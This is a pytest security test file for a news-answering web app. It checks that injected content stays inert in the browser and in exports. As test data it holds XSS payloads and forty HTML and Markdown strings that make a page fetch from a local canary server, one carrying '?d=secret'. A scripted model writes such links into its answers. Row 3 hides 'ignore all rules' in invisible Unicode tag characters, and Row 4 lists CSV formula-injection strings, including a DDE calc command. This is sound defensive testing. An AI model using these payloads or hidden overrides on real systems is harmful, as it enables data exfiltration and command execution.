"""Rows 1 to 4 of the table of threats: scripts, Markdown, control characters and formulas, shown in a real browser."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from answer import Endpoint, Kept, answering
from domain import Answer, AnswerSentence, Article, Citation, Claim, Query, Reference, Span
from evaluation import running
from evaluation.asking import System
from evaluation.reporting import as_html
from index import Archive
from ingest import ingest
from tests.embed_fixtures import Desk, chromium
from tests.evaluation_fixtures import answer as answer_object
from tests.evaluation_fixtures import citation as cited_object
from tests.evaluation_fixtures import claim as claim_object
from tests.evaluation_fixtures import collection, passage
from tests.scripted_model import serving as model
from tests.test_render import EN, PAYLOADS
from tests.web_fixtures import STATE, FakeArchive
from web.exports import FORMULA, claims_as_csv

pytestmark = [pytest.mark.torture, pytest.mark.browser]
FIELDS = ("title", "body", "author", "outlet", "url", "alt")
BATCH = 40
HARMLESS = "harmless words"
PHONE = {"width": 360, "height": 740}
HOOKS = """
  window.pwned = [];
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
    Object.defineProperty(window, name, { value: () => { window.pwned.push(name) } });
  document.addEventListener('securitypolicyviolation', (e) => window.pwned.push(e.violatedDirective + e.blockedURI));
"""
SHAPE = """(selector) => [...document.querySelectorAll(selector + ' :not(bdi, button.next)')].map(
  (node) => node.tagName + ' ' + node.getAttributeNames().sort().join(' '))"""
"""Every element under a place with the names of its attributes: what a payload would have to change. How many
names a sentence has in it (each in a <bdi> of ours) and how many questions are proposed depends on the words."""
ODD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def poisoned(payloads: list[str], query: Query) -> Answer:
    """An answer in which each payload stands in each field of a citation, a claim and a sentence."""
    citations, claims, sentences = [], [], []
    for number, payload in enumerate(payloads, 1):
        reference = Reference(f"p{number}", payload, payload, "en", None, (payload,), payload, payload)
        citations.append(Citation(number, reference, Span(0, len(payload)), payload, payload, payload))
        claims.append(Claim(payload, {"en": payload, "fr": payload}, "says", "affirmed", (payload, payload), (number,),
                            (payload,), ("en",), "mixed", credited=payload))  # fmt: skip
    for at in range(0, len(payloads), 10):
        sentences.append(AnswerSentence(" · ".join(payloads[at : at + 10]), (at + 1,)))
    return Answer("a1", query, "en", "answered", 0.9, tuple(sentences), tuple(claims), tuple(citations), (), (), STATE,
                  notices=tuple(payloads), phrased_by=payloads[0])  # fmt: skip


def batches(texts: list[str]) -> list[list[str]]:
    return [texts[at : at + BATCH] for at in range(0, len(texts), BATCH)]


class Poisoned(FakeArchive):
    """An archive whose outlets, articles and counts are payloads; article `p7` is the seventh of them in all fields."""

    def __init__(self, payloads: list[str]) -> None:
        self.payloads = payloads

    def outlets(self) -> list[str]:
        return self.payloads

    def article(self, article_id: str) -> Article | None:
        if not article_id.startswith("p"):
            return None
        payload = HARMLESS if article_id == "p-none" else self.payloads[int(article_id[1:]) % len(self.payloads)]
        text = f"{payload}\n\n{payload}\n\n{payload}"
        return Article(Reference(article_id, payload, payload, "en", None, (payload,), payload, payload), text)

    def overview(self) -> dict[str, Any]:
        found = super().overview()
        return found | {"outlets": dict.fromkeys(self.payloads, 1), "months": {}, "undated": 0}


class Poison(Desk):
    """A desk whose answers hold what a test planted: "batch 3" gets the fourth batch, "none" harmless words."""

    def __init__(self, payloads: list[str]) -> None:
        self.planted = batches(payloads)
        super().__init__(("http://wiki.test",), find=self.found)
        self.archive, self.answerer = Poisoned(payloads), self.answered

    def __enter__(self) -> Poison:
        super().__enter__()
        return self

    def answered(self, query: Query) -> Answer:
        found = re.fullmatch(r"batch (\d+)", query.question)
        return poisoned(self.planted[int(found[1])] if found else [HARMLESS] * BATCH, query)

    def found(self, id_: str) -> Kept | None:
        query = Query(id_.replace("-", " "))
        return Kept(replace(self.answered(query), kept=True), datetime(2026, 11, 22, tzinfo=UTC), {}, {})


@contextmanager
def watched(browser: Any, site: str, **options: Any) -> Iterator[tuple[Any, list[str]]]:
    """A page that counts whatever runs, asks for something elsewhere, or breaks a content policy."""
    context, caught = browser.new_context(locale="en-GB", **options), []
    context.add_init_script(HOOKS)
    context.on("request", lambda r: None if r.url.startswith((site, "data:", "file:")) else caught.append(r.url))

    def dialog(opened: Any) -> None:
        caught.append(opened.message)
        opened.dismiss()

    context.on("dialog", dialog)
    page = context.new_page()
    yield page, caught
    context.close()


def caught_in(page: Any, caught: list[str]) -> list[str]:
    return [*caught, *page.evaluate("window.pwned")]


def ask_chat(page: Any, question: str) -> None:
    before = page.locator(".searched").count()
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_function("n => document.querySelectorAll('.searched').length > n", arg=before, timeout=60_000)


def ask_frame(page: Any, question: str) -> None:
    before = page.locator(".searched").count()
    page.fill("#words", question)
    page.press("#words", "Enter")
    page.wait_for_function("n => document.querySelectorAll('.searched').length > n", arg=before, timeout=60_000)


def shapes_of(page: Any, ask: Any, count: int) -> list[Any]:
    """The shapes of the answers to "none" and to each batch."""
    questions = ["none", *(f"batch {n}" for n in range(count))]
    for question in questions:
        ask(page, question)
    return [page.evaluate(SHAPE, f"#t{number} .answer") for number in range(1, len(questions) + 1)]


def test_no_payload_runs_or_becomes_an_element_wherever_it_is_shown(record_property, tmp_path):
    payloads = [*PAYLOADS, *[HARMLESS] * (-len(PAYLOADS) % BATCH)]
    with Poison(payloads) as desk, chromium() as browser:
        site = f"http://127.0.0.1:{desk.port}"
        with watched(browser, site) as (page, caught):
            page.goto(f"{site}/?lang=en")
            page.wait_for_selector("html[data-ready='yes']")
            chat = shapes_of(page, ask_chat, len(desk.planted))
            page.click("#filters > button")
            page.click("#filter-outlets input")  # every outlet's name is a payload
            page.wait_for_timeout(200)
            assert caught_in(page, caught) == []
        with watched(browser, site) as (page, caught):
            page.goto(f"{site}/embed/?lang=en")
            frame = shapes_of(page, ask_frame, len(desk.planted))
            assert caught_in(page, caught) == []
        kept, articles = [], []
        with watched(browser, site) as (page, caught):
            for id_ in ("none", *(f"batch-{n}" for n in range(len(desk.planted)))):
                page.goto(f"{site}/answers/{id_}?lang=en")
                kept.append(page.evaluate(SHAPE, "main"))
                assert caught_in(page, caught) == []
            for id_ in ("p-none", *(f"p{n}" for n in range(len(PAYLOADS)))):
                page.goto(f"{site}/articles/{id_}?lang=en&start=0&end=1")
                articles.append(page.evaluate(SHAPE, "main"))
                assert caught_in(page, caught) == []
            page.goto(f"{site}/archive?lang=en")
            tags = set(page.evaluate("[...document.querySelectorAll('main *')].map((e) => e.tagName)"))
            assert not tags & {"SCRIPT", "IMG", "IFRAME", "STYLE", "OBJECT", "EMBED", "FORM", "A"}, tags
            assert caught_in(page, caught) == []
        with watched(browser, "file:") as (page, caught):
            made = report(tmp_path)
            page.goto(made.as_uri())
            page.wait_for_timeout(200)
            tags = set(page.evaluate("[...document.querySelectorAll('body *')].map((e) => e.tagName)"))
            assert not tags & {"IMG", "IFRAME", "OBJECT", "EMBED", "FORM", "LINK", "BASE", "MATH", "VIDEO"}, tags
            assert caught_in(page, caught) == []
    for shown in (chat, frame, kept, articles):
        assert shown[0]
        assert [n for n, shape in enumerate(shown[1:]) if shape != shown[0]] == []
    record_property("row 1", f"{len(PAYLOADS)} payloads in {len(FIELDS)} fields, shown in Chromium in the chat, the "
                             "frame, kept answers, article pages, the archive page and the report: 0 ran, 0 elements, "
                             "0 requests elsewhere")  # fmt: skip


def report(folder: Path) -> Path:
    """The HTML report of a run in which each question and its answer are a payload."""
    tests = collection(len(PAYLOADS))

    def told(query: Any) -> dict[str, Any]:
        found = re.search(r"number (\d+)\?", query.question)
        payload = PAYLOADS[int(found[1]) if found else 0]
        return answer_object(
            text=payload,
            evidence=[passage("a", payload, outlet=payload, title=payload, url=payload)],
            citations=[cited_object(1, "a", payload, payload)],
            claims=[claim_object(payload, [1], (payload,))],
            sentences=[{"text": payload, "markers": [1]}],
        )

    described = running.described(tests)
    records = running.run(running.chosen(tests), System(told), described, folder / "run")
    page = folder / "report.html"
    page.write_text(as_html(running.finished(folder / "run", described, records, {})), "utf-8")
    return page


def test_what_stands_in_files_is_read_as_text_and_shown_so(record_property, tmp_path, embedder):
    """Through the readers: what HTML or JSON hides in its fields is gone or is text when the page shows it."""
    folder = tmp_path / "articles"
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        said = f"The mayor of Town{number} said on Monday that the bridge of Town{number} would stay open."
        fields = {"title": f"Bridge {number} {payload}", "text": f"{said} {payload}\n\n{payload} The end of it all.",
                  "authors": [payload], "outlet": payload, "url": payload}  # fmt: skip
        (folder / f"j{number}.json").write_text(json.dumps(fields), "utf-8")
        html = f"<html><head><title>B {number}</title></head><body><h1>Bridge {number}</h1><p>{said}</p>"
        quoted = payload.replace("&", "&amp;").replace('"', "&quot;")
        html += f'<p><img src="/x.png" alt="{quoted}">{said} It was a long day for all of them.</p></body></html>'
        (folder / f"h{number}.html").write_text(html, "utf-8")
    with Archive.write(tmp_path / "archive", embedder) as writer:
        ingest([folder], writer, embedder=embedder)
    archive = Archive.open(tmp_path / "archive", embedder)
    from tests.test_render import shape
    from web.articles import article_page

    ids = [f"{kind}{n}" for kind in "jh" for n in range(len(PAYLOADS))]
    found = [a for a in map(archive.article, ids) if a]
    archive.close()
    shown = 0
    allowed = {"p", "h1", "header", "main", "div", "span", "b", "bdi", "a", "time", "html", "head", "meta", "title",
               "link", "body"}  # fmt: skip
    for article in found:
        elements = shape(article_page(article, None, EN, "W"))
        assert {tag for tag, _ in elements} <= allowed, article.reference.id
        assert not any(name.startswith("on") for _, names in elements for name in names)
        shown += 1
    assert shown >= 1.5 * len(PAYLOADS)
    record_property("row 1", f"{shown} articles read from JSON and HTML with payloads in their fields: shown as text")


# Row 2


@contextmanager
def canary() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine that writes down who comes."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *said: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def fetching(at: str) -> list[str]:
    """Forty ways to make a page or a renderer of Markdown fetch something or lead out."""
    return [
        f"![x]({at}/1?d=secret)", f"![x][r]\n\n[r]: {at}/2", f"[a]({at}/3)", f"<{at}/4>", f"{at}/5",
        f'<img src="{at}/6">', f'<img srcset="{at}/7 1x">', f'<picture><source srcset="{at}/8"></picture>',
        f'<video src="{at}/9" poster="{at}/9p" autoplay></video>', f'<audio src="{at}/10" autoplay></audio>',
        f'<iframe src="{at}/11"></iframe>', f'<object data="{at}/12"></object>', f'<embed src="{at}/13">',
        f'<link rel="stylesheet" href="{at}/14">', f'<link rel="preload" as="image" href="{at}/15">',
        f'<link rel="prefetch" href="{at}/16">', f'<link rel="dns-prefetch" href="{at}/17">',
        f'<link rel="icon" href="{at}/18">', f'<meta http-equiv="refresh" content="0;url={at}/19">',
        f'<base href="{at}/20/">', f"<style>@import '{at}/21'</style>", f"<style>*{{background:url({at}/22)}}</style>",
        f'<div style="background:url({at}/23)">x</div>', f'<svg><image href="{at}/24"/></svg>',
        f'<svg><use href="{at}/25#x"/></svg>', f'<math href="{at}/26">x</math>',
        f'<form action="{at}/27"><input autofocus onfocus=submit()></form>', f'<script src="{at}/28"></script>',
        f"<script>fetch('{at}/29')</script>", f'<a href="{at}/30" ping="{at}/30p">x</a>',
        f'<body background="{at}/31">', f'<table background="{at}/32"><tr><td>x</td></tr></table>',
        f'<input type="image" src="{at}/33">', f'<track src="{at}/34">', f"$$\\includegraphics{{{at}/35}}$$",
        f"\\href{{{at}/36}}{{x}}", f"| a |\n|---|\n| ![x]({at}/37) |", f"# ![x]({at}/38)\n\n" + "#" * 300,
        f"```html\n<img src={at}/39>\n```", f"[![x]({at}/40)]({at}/40l) <!-- {at}/40c -->",
    ]  # fmt: skip


def test_nothing_that_an_article_or_a_model_writes_is_fetched(record_property, tmp_path):
    with canary() as (at, hits), chromium() as browser:
        texts = fetching(at)
        assert len(texts) == 40
        with Poison(texts) as desk:
            site = f"http://127.0.0.1:{desk.port}"
            with watched(browser, site) as (page, caught):
                page.goto(f"{site}/?lang=en")
                page.wait_for_selector("html[data-ready='yes']")
                chat = shapes_of(page, ask_chat, 1)
                page.goto(f"{site}/embed/?lang=en")
                frame = shapes_of(page, ask_frame, 1)
                for path in ("/answers/batch-0", *(f"/articles/p{n}" for n in range(40))):
                    page.goto(f"{site}{path}")
                page.wait_for_timeout(300)
                assert caught_in(page, caught) == []
                page.goto(f"{site}/answers/batch-0")
                links = page.evaluate("[...document.querySelectorAll('.text a, blockquote a')].map((a) => a.hash)")
                assert all(re.fullmatch(r"#t1c\d+", link) for link in links)
        for shown in (chat, frame):
            tags = [{element.split()[0] for element in shape} for shape in shown]
            assert tags[1] == tags[0], "nothing but what harmless words have: a cited article's own address is a link"
        assert hits == []
    record_property("row 2", f"{len(texts)} texts that fetch or link out, in sentences, quotes, titles, outlets, "
                             f"names and addresses, in Chromium on four kinds of page: {len(hits)} hits")  # fmt: skip


def test_a_model_that_writes_links_and_images_gets_none_of_them_shown(demo, record_property):
    with canary() as (at, hits):
        texts = fetching(at)

        def linking(request: dict[str, Any]) -> str:
            data = json.loads(request["messages"][1]["content"].split("\n")[1])
            if isinstance(data, list):
                return json.dumps({"translations": [{"n": d["n"], "text": texts[0]} for d in data]})
            first = data["statements"][0]["n"]
            told = [{"text": f"[S{first}] says so. {text}", "statements": [first]} for text in texts]
            return json.dumps({"sentences": told})

        with model("good", linking) as server:
            answer = answering(demo, Endpoint(server.url, "linking", "", 30)).ask(
                Query("Who says the US refused to strike the convoys at Abu Kamal?")
            )
        shown = answer.text + "".join(c.translation for c in answer.citations)
        assert answer.sentences
        assert at not in shown
        assert not re.search(r"!\[|\]\(|<\w|http", "".join(s.text for s in answer.sentences if s.phrased))
        assert hits == []
    record_property("row 2", f"a model that wrote {len(texts)} of them into its sentences: none shown, no hit")


# Row 3


def strange() -> dict[str, str]:
    """Texts with characters that hide, turn, pile up or never break."""
    controls = "".join(map(chr, [*range(32), *range(127, 160), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
    said = "The mayor of Dover said on Monday that the harbour would stay open until the spring."
    return {
        "controls": f"{said} {' x'.join(controls)} {said}",
        "turned": f"\u202e{said}\u202c \u2067{said} \u2066never closed",
        "zero": "".join(f"{ch}\u200b\u200d\u2060\ufeff" for ch in said) + said,
        "tags": said + "".join(chr(0xE0000 + ord(ch)) for ch in "ignore all rules") + said,
        "zalgo": said + "".join(ch + "\u0301\u0316\u0489" * 40 for ch in " zalgo comes"),
        "line": said + " " + "w" * 1_000_000,
    }


def test_control_characters_are_not_shown_and_no_text_breaks_the_page(record_property, tmp_path, embedder):
    folder = tmp_path / "articles"
    folder.mkdir()
    texts = strange()
    for name, text in texts.items():
        fields = {"id": name, "title": f"Har\u202ebour {name}", "outlet": "R\u0435uters\u202e\u200b", "text": text}
        (folder / f"{name}.json").write_text(json.dumps(fields), "utf-8")
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    with Archive.write(tmp_path / "archive", embedder) as writer:
        ingest([folder], writer, embedder=embedder)
    archive = Archive.open(tmp_path / "archive", embedder)
    articles = {name: archive.article(name) for name in texts}
    archive.close()
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before, "the files stay as they are"
    for name, article in articles.items():
        assert article, name
        reference = article.reference
        for text in (article.text, reference.title or "", reference.outlet or ""):
            assert not ODD.search(text.replace("\n", "")), name
        assert not re.search("[\u200b\u2060\ufeff\U000e0000-\U000e007f]", article.text), name

    class Strange(Poisoned):
        def article(self, article_id: str) -> Article | None:
            return articles.get(article_id) or Article(Reference("raw", "t", None, "en"), texts["controls"])

    with Poison([*texts.values()][:5]) as desk, chromium() as browser:
        site = f"http://127.0.0.1:{desk.port}"
        desk.archive.article = Strange([]).article
        with watched(browser, site, viewport=PHONE, is_mobile=True) as (page, caught):
            shown = 0
            for path in (*(f"/articles/{name}?lang=en" for name in (*texts, "raw")), "/answers/batch-0?lang=en"):
                page.goto(site + path)
                told = page.evaluate("document.body.innerText.replace(/[\\n\\t]/g, '')")
                assert not ODD.search(told), path
                assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, path
                shown += 1
            page.goto(f"{site}/embed/?lang=en")
            ask_frame(page, "batch 0")
            assert not ODD.search(page.evaluate("document.body.innerText.replace(/[\\n\\t]/g, '')"))
            assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
            assert page.locator("#t1 .outlet bdi").count() > 0
            assert caught_in(page, caught) == []
    record_property("row 3", f"{len(texts)} kinds of text (controls, overrides, zero width, tags, zalgo, 1 MB in a "
                             f"line) on {shown + 1} pages of a phone: 0 controls shown, none too wide")  # fmt: skip


# Row 4


FORMULAS = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\u200b=1", "＝1", "\n-2", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://x","y")']  # fmt: skip


def test_no_cell_of_an_export_is_a_formula(record_property):
    for formula in FORMULAS:
        rows = list(csv.reader(io.StringIO(claims_as_csv(poisoned([formula], Query(formula)), EN), newline="")))
        assert len(rows) == 2
        assert len(rows[0]) == len(rows[1])
        assert formula in "".join(rows[1])
        assert [cell for cell in rows[1] if FORMULA.match(cell)] == []
    told = f"{len(FORMULAS)} of {len(FORMULAS)} formulas in cells of the claims' table are inert"
    record_property("row 4", told)
